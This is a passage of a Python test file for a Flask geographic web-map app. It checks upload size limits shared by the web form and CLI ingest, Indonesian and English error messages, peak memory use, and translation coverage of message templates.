        [sys.executable, "-m", "flask", "--app", "webmap", "ingest", str(path), "--city",
         CLI_CITY, "--json"], env)
    assert "Traceback" not in stderr, stderr[-2000:]
    report = json.loads(stdout)
    kind = REFUSED if returncode == 1 and "error" in report else (
        _kind(report) if returncode == 0 else "crash")
    outcome = Outcome(kind, report.get("error") or report.get("message", ""))
    assert problems_with(case, outcome) == []
    assert peak < MAX_PEAK_RSS_BYTES, f"peak memory {peak / 2**20:.0f} MiB"


def _run_measured(command: list[str], env: dict[str, str]) -> tuple[str, str, int, int]:
    """Run a process to its end; its output, exit code and peak resident memory in bytes
    (measured through a small launcher: the test process's own size does not count)."""
    process, report = start_with_peak(command, env=env, stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE)
    with ThreadPoolExecutor(max_workers=2) as pool:
        stdout, stderr = pool.submit(process.stdout.read), pool.submit(process.stderr.read)
        process.wait()
        out, err = stdout.result().decode(), stderr.result().decode()
    process.stdout.close()
    process.stderr.close()
    return out, err, process.returncode, read_peak(report)


# --- one upload limit ------------------------------------------------------------------------

LIMIT_SENTENCE = "batas unggah 4 KiB. Bagi menjadi beberapa file yang lebih kecil."


@pytest.fixture
def small_limit_app(db_url, city_file, tmp_path):
    from tests.webmap.conftest import make_app
    from webmap.db import dispose_engine

    app = make_app(db_url, city_file, tmp_path, MAX_UPLOAD_BYTES=4096)
    yield app
    dispose_engine(app)


def test_one_upload_limit_for_the_web_and_the_cli(small_limit_app, tmp_path):
    assert small_limit_app.config["MAX_CONTENT_LENGTH"] == 4096 + 64 * 1024
    client = signed_in(small_limit_app, "tim.batas", "tim_lapangan")
    for size, name in ((5000, "sedikit_besar.csv"), (80_000, "jauh_besar.csv")):
        path = tmp_path / name
        path.write_bytes(good_file(name, 2000).encode()[:size])
        cli = small_limit_app.test_cli_runner().invoke(args=["ingest", str(path), "--json"])
        assert cli.exit_code == 1
        assert json.loads(cli.output)["error"] == (
            f"File '{name}' terlalu besar ({size / 1024:.1f} KiB): {LIMIT_SENTENCE}")
        web = client.post("/unggah", **upload_body(path.read_bytes(), name))
        page = html.unescape(web.get_data(as_text=True))
        assert LIMIT_SENTENCE in page
        if size < small_limit_app.config["MAX_CONTENT_LENGTH"]:  # read, then refused by ingest
            assert web.status_code == 422 and json.loads(cli.output)["error"] in page
        else:  # refused by Flask before the file is read
            assert web.status_code == 413 and page == f"File ini terlalu besar: {LIMIT_SENTENCE}"


def test_upload_limit_message_in_english(small_limit_app):
    client = signed_in(small_limit_app, "tim.inggris", "tim_lapangan")
    response = client.post("/unggah?lang=en", **upload_body(b"x" * 80_000, "big.csv"))
    assert response.status_code == 413
    assert response.get_data(as_text=True) == (
        "This file is too large: the upload limit is 4 KiB. Split it into smaller files.")


def test_refused_file_is_explained_in_english_on_request(harness):
    response = harness.web.post("/unggah?lang=en",
                                **upload_body(b"\xff\xfel\x00a\x00t\x00", "u.csv"))
    assert response.status_code == 422
    assert ("File 'u.csv' is saved as UTF-16 text; save it again as 'CSV UTF-8' and upload it "
            "again.") in html.unescape(response.get_data(as_text=True))


def test_default_upload_limit_is_the_documented_one():
    from geo import settings
    from webmap import create_app

    app = create_app({"TESTING": True, "DATABASE_URL": "sqlite://"})
    assert app.config["MAX_UPLOAD_BYTES"] == settings.MAX_UPLOAD_BYTES == 512 * 2**20
    assert "`MAX_UPLOAD_BYTES`" in (ROOT / "README.md").read_text()
    assert "512 MiB" in (ROOT / "README.md").read_text()


def test_every_geo_message_template_has_an_english_translation():
    from babel.messages.pofile import read_po

    catalog_path = ROOT / "webmap" / "translations" / "en" / "LC_MESSAGES" / "messages.po"
    with catalog_path.open("rb") as source:
        translated = {m.id: m.string for m in read_po(source) if m.id and m.string}
    placeholder = re.compile(r"%\((\w+)\)s")
    found = [message for *_where, message, _comments, _context in extract_from_dir(
        str(ROOT / "geo"), [("**.py", "python")], keywords={"N_": None})]
    assert len(found) >= 20
    assert [text for text in found if text not in translated] == []
    assert [text for text in found
            if set(placeholder.findall(text)) != set(placeholder.findall(translated[text]))] == []
